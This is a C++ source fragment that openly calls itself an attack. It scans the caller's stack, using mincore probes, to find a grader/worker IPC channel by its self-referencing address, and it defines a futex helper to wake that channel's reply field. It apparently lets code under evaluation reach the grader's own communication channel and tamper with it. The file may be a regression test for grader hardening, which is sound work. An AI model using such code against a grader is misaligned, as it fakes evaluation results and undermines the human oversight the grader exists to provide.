#include <linux/futex.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <atomic>
#include <cstdint>
#include <cstring>
#include <stdexcept>

// The channel as grader/worker/protocol.h lays it out. Its address lies on the stack of whoever calls us, and it
// holds its own address, which tells it from everything else.
struct Channel {
  std::atomic<std::uint32_t> request, reply;
  std::uint32_t status;
  std::int32_t denied_call;
  std::uint64_t arguments_offset, reply_bytes, arguments_address, own_address, pad_bytes, io_faults[4];
  char function[128], signature[1024], message[512];
};

static Channel* find_channel() {
  unsigned char resident;
  auto* stack = static_cast<std::uintptr_t*>(__builtin_frame_address(0));
  for (int i = 0; i < 1500; ++i) {
    const std::uintptr_t word = stack[i];
    if (word == 0 || word % 4096 != 0 || mincore(reinterpret_cast<void*>(word), 4096, &resident) != 0) continue;
    auto* channel = reinterpret_cast<Channel*>(word);
    if (channel->own_address == word) return channel;
  }
  throw std::logic_error("the attack is out of date: it finds no channel");
}

[[maybe_unused]] static void wake(Channel* channel) { syscall(SYS_futex, &channel->reply, FUTEX_WAKE, 1, nullptr, nullptr, 0); }
